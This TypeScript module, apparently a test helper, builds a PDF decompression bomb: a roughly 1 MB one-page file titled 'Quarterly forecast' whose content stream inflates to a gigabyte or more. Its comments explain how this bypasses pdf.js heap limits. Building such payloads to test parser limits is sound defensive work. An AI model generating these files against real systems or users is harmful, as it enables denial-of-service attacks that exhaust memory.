import { constants, deflateRawSync } from 'node:zlib'

import { PDFDocument, PDFName, StandardFonts } from 'pdf-lib'

const ADLER_BASE = 65521

/** Adler-32 of `bytes` (RFC 1950), carried on from `adler`. */
function adler32(bytes: Uint8Array, adler = 1) {
  let low = adler & 0xffff
  let high = adler >>> 16
  for (const byte of bytes) {
    low = (low + byte) % ADLER_BASE
    high = (high + low) % ADLER_BASE
  }
  return ((high << 16) | low) >>> 0
}

/** Adler-32 of `first` followed by `second`, from theirs and the second's length (zlib's adler32_combine). */
function adler32Combine(first: number, second: number, secondLength: number) {
  const remainder = secondLength % ADLER_BASE
  const low = ((first & 0xffff) + (second & 0xffff) + ADLER_BASE - 1) % ADLER_BASE
  const high =
    ((first >>> 16) + (second >>> 16) + ((remainder * (first & 0xffff)) % ADLER_BASE) + ADLER_BASE - remainder) %
    ADLER_BASE
  return ((high << 16) | low) >>> 0
}

/**
 * A zlib stream (what a PDF's FlateDecode filter holds) of `head`, then 1 MB of `unit` repeated
 * until about `size` bytes, at about a thousandth of that: the megabyte is deflated once with a
 * full flush (byte-aligned, no back-references into what came before) and those bytes repeated.
 */
function repeatedFlate(head: string, unit: string, size: number) {
  const headBytes = Buffer.from(head)
  const chunk = Buffer.from(unit.repeat(Math.floor(2 ** 20 / unit.length)))
  const chunks = Math.max(1, Math.round(size / chunk.length))
  const flushed = (bytes: Buffer) => deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const packedChunk = flushed(chunk)
  const chunkAdler = adler32(chunk)
  let adler = adler32(headBytes)
  for (let index = 0; index < chunks; index++) adler = adler32Combine(adler, chunkAdler, chunk.length)
  const trailer = Buffer.alloc(4)
  trailer.writeUInt32BE(adler)
  return Buffer.concat([
    Buffer.from([0x78, 0xda]), // zlib header: deflate, 32 KB window, best compression
    flushed(headBytes),
    ...Array.from({ length: chunks }, () => packedChunk),
    deflateRawSync(Buffer.alloc(0)), // the final, empty block
    trailer,
  ])
}

/**
 * A one-page PDF whose page content is a single FlateDecode stream that decodes to `unpackedBytes`:
 * a line of text, then `filler` (spaces by default, which draw nothing) over and over. 1 GB of
 * spaces is a 1 MB file. pdf.js decodes a content stream into one buffer that doubles as it grows,
 * outside the V8 heap, so no heap cap bounds what reading it takes.
 */
export async function pdfBomb(
  unpackedBytes: number,
  { filler = ' ' }: { filler?: string } = {},
): Promise<Uint8Array<ArrayBuffer>> {
  const pdf = await PDFDocument.create()
  const font = await pdf.embedFont(StandardFonts.Helvetica)
  const page = pdf.addPage([612, 792])
  page.node.setFontDictionary(PDFName.of('F1'), font.ref)
  const packed = repeatedFlate('BT /F1 12 Tf 72 720 Td (Quarterly forecast) Tj ET\n', filler, unpackedBytes)
  const content = pdf.context.stream(packed, { Filter: 'FlateDecode' })
  page.node.set(PDFName.of('Contents'), pdf.context.register(content))
  return new Uint8Array(await pdf.save({ useObjectStreams: false }))
}
